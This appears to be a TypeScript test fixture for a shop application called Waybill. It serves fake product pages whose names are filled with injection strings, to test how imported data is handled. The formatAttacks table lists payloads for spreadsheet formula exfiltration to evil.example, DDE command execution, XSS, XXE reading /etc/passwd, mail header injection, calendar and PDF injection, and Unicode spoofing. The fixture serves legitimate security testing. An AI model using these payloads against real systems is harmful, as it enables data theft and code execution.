/** A foreign shop whose every word is an attack on some format, and a shop of ours in which its goods are bought. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createMailer } from '../../src/platform/mail/mail.ts';
import { readSettings } from '../../src/server/settings/settings.ts';
import type { Outside } from '../../src/server/wiring/features.ts';
import { openProductsOutside } from '../../src/server/wiring/products-outside.ts';
import { aShopWithBank } from './a-bank.ts';
import { aMailbox, type Mailbox } from './a-mailbox.ts';
import { aSite } from './a-site.ts';
import type { Market } from './an-order.ts';

/** Texts that end a cell, a header, a line, an element, a string or a script somewhere, by the format that they attack. */
export const formatAttacks: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Price")',
  'formula behind a semicolon': 'cup;=1+1;x',
  'formula behind a comma': "cup,+cmd|' /C calc'!A0,x",
  'formula by its sign': '@SUM(1+1)*cmd',
  'formula of wide signs': '＝1+1',
  'formula behind a quote': 'cup";-2+3;"',
  script: '</script><script>waybillRan(1)</script>',
  'script as an attribute': '"><img src=x onerror=waybillRan(2)>',
  element: ']]></title></entry><entry><title>more</title>&x;',
  entity: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  header: 'cup\r\nBcc: victim@evil.example\r\n\r\nmore',
  calendar: 'cup\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example',
  paper: ') Tj ET /JavaScript (app.alert(1)) endobj stream',
  message: '{order} {count, plural, other {#}} $' + '{1+1} %s <%= 1 %>',
  'turned letters': 'cup \u202egpj.exe \u2066x\u2069',
  controls: 'cup \u0001\u0008\u000b\u001b[31m\u0085\u2028\u2029\ufffe end',
};

const html = (text: string): string => text.replace(/[&<>"'\r\n]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** A page that names a product and its brand, its choice and its seller with an attack, correctly written itself. */
function pageOf(attack: string): string {
  const availability = 'https://schema.org/InStock';
  const data = {
    ...{ '@context': 'https://schema.org', '@type': 'Product', name: attack, description: attack },
    ...{ brand: { '@type': 'Brand', name: attack }, sku: attack, category: attack },
    offers: {
      ...{ '@type': 'Offer', price: '40.00', priceCurrency: 'EUR', availability },
      seller: { '@type': 'Organization', name: attack },
    },
  };
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${html(attack)}</title>
<meta property="og:type" content="product"><meta property="og:title" content="${html(attack)}">
<script type="application/ld+json">${JSON.stringify(data).replaceAll('<', '\\u003c')}</script></head>
<body><h1>${html(attack)}</h1><p class="price">EUR 40.00</p>
<form><label>${html(attack)}<select name="${html(attack)}"><option>${html(attack)}</option><option>Other</option></select></label>
<button>Add to cart</button></form></body></html>`;
}

export interface HostileMarket extends Market {
  mailbox: Mailbox;
  /** Paths of its pages by the name of the attack, without a slash. */
  paths: Readonly<Record<string, string>>;
}

export async function aHostileMarket(outside: Partial<Outside> = {}): Promise<HostileMarket> {
  const all = Object.entries(formatAttacks);
  const site = await aSite(({ url = '' }, response) => {
    const attack = all[Number(/^\/p\/(\d+)$/.exec(url)?.[1] ?? -1)]?.[1];
    response.writeHead(attack ? 200 : 404, { 'content-type': 'text/html; charset=utf-8' });
    response.end(attack ? pageOf(attack) : '');
  });
  const mailbox = await aMailbox();
  const mailer = createMailer({ smtpUrl: mailbox.smtpUrl, from: 'Waybill <shop@waybill.example>' });
  const filesFolder = await mkdtemp(join(tmpdir(), 'waybill-files-'));
  const demo = { origin: site.origin, allow: `127.0.0.1:${site.port}` };
  const limits = { perHour: 10_000, guestPerHour: 10_000 };
  const products = { ...openProductsOutside({ demo, filesFolder }), limits };
  const parcels = { isOn: true, fee: '3.50' };
  const bank = await aShopWithBank({
    outside: { products, sendMail: mailer.send, ...outside },
    settings: { ...readSettings({ WAYBILL_DEMO: '1', DEFAULT_LOCALE: 'en' }), parcels },
  });
  return {
    ...{ ...bank, origin: site.origin, filesFolder, mailbox },
    paths: Object.fromEntries(all.map(([name], at) => [name, `p/${at}`])),
    close: async () => {
      await bank.shop.close();
      mailer.close();
      await mailbox.close();
      await site.close();
      await rm(filesFolder, { recursive: true, force: true });
    },
  };
}
